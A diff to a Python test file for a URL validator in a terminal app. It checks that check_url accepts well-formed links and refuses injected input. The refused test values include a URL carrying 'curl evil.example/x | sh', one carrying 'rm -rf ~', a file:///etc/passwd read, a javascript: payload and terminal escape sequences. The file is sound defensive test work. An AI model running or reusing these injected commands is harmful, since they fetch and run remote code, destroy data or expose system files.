@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from yike_tui.links import editor_url, open_url
+from yike_tui.links import MAX_URL_LENGTH, check_url, editor_url, open_url
 from yike_tui.models import Storyboard
 
 EDIT = "https://www.yikeai.com/#/storyboard/editing?storyboardId="
@@ -75,3 +75,55 @@ def test_no_text_browser_inside_our_own_terminal() -> None:
     )
     assert opener.urls == [] and "copy the link" in message
     assert open_url(EDIT + "st_1", env={}, platform="darwin", opener=opener).startswith("opened")
+
+
+# --- the one link rule for copy, report and open (issue 13 item 15) ----------------------
+
+SIGNED = (
+    "https://b.oss-cn-shanghai.aliyuncs.com/out/v.mp4?Expires=1&OSSAccessKeyId=STS.x"
+    "&Signature=a%2Bb%3D&security-token=" + "T" * 1400
+)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        SIGNED,
+        "http://127.0.0.1:8000/media/j/out.mp4?Expires=1&Signature=x",
+        EDIT + "st_1",
+        "https://例え.jp/雨巷.mp4",
+        "https://b.oss.test/o.mp4?…",  # a cached link with its query cut
+    ],
+)
+def test_well_formed_links_pass_unchanged(url: str) -> None:
+    assert check_url(url) == url
+
+
+@pytest.mark.parametrize(
+    ("url", "why"),
+    [
+        ("https://b.test/o.mp4\ncurl evil.example/x | sh", "spaces, line breaks or control"),
+        ("https://b.test/o.mp4\rx", "spaces, line breaks or control"),
+        ("https://b.test/o.mp4 ; rm -rf ~", "spaces, line breaks or control"),
+        ("https://b.test/o.mp4\tx", "spaces, line breaks or control"),
+        ("https://b.test/\u2028x", "spaces, line breaks or control"),
+        ("https://b.test/\x1b]52;c;eA==\x07", "spaces, line breaks or control"),
+        ("https://b.test/\u202egpj.exe", "spaces, line breaks or control"),
+        ("https://b.test/\u200bx", "spaces, line breaks or control"),
+        ("https://b.test/\x85x", "spaces, line breaks or control"),
+        ("https://b.test/\ud800", "spaces, line breaks or control"),
+        ("javascript:alert(1)//https://b.test", "only http and https"),
+        ("file:///etc/passwd", "only http and https"),
+        ("b.test/o.mp4", "only http and https"),
+        ("https://", "no host"),
+        ("https:///o.mp4", "no host"),
+        ("https://trusted.example@evil.example/o.mp4", "names a user"),
+        ("https://b.test:99999999/o.mp4", "not a well-formed URL"),
+        ("http://[::1/o.mp4", "not a well-formed URL"),
+        ("https://b.test/" + "a" * MAX_URL_LENGTH, "characters long"),
+    ],
+)
+def test_anything_else_is_refused_with_a_one_line_reason(url: str, why: str) -> None:
+    with pytest.raises(ValueError, match=why) as caught:
+        check_url(url)
+    assert "\n" not in str(caught.value)
